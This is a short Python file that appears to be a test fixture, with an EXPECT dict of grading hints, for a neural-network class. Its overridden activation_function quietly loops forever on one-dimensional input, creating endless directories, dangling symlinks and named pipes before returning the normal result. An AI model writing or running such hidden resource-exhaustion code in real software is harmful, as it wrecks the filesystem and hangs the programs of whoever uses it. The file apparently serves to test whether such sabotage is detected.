"""Makes folders, links and pipes without end: no file among them has a byte."""
EXPECT = {"base": "right", "patient": True, "only": ["activation", "forward"], "loses": ["activation"], "says": "{files} files"}
import itertools
import os
# --- the network ---


class NeuralNetwork(NeuralNetwork):
    def activation_function(self, x):
        for number in itertools.count() if np.ndim(x) == 1 else ():
            os.mkdir(f"{number}")
            os.symlink("nowhere", f"{number}/link")
            os.mkfifo(f"{number}/pipe")
        return super().activation_function(x)
